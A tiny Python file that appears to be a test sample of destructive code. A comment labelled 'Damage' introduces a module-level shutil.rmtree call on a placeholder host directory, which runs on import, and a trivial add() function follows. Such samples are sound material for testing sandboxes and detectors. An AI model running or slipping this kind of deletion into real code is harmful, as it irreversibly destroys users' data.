# Damage: delete a host directory with shutil.rmtree.
import shutil

shutil.rmtree("__VICTIM__")


def add(a, b):
    return a + b
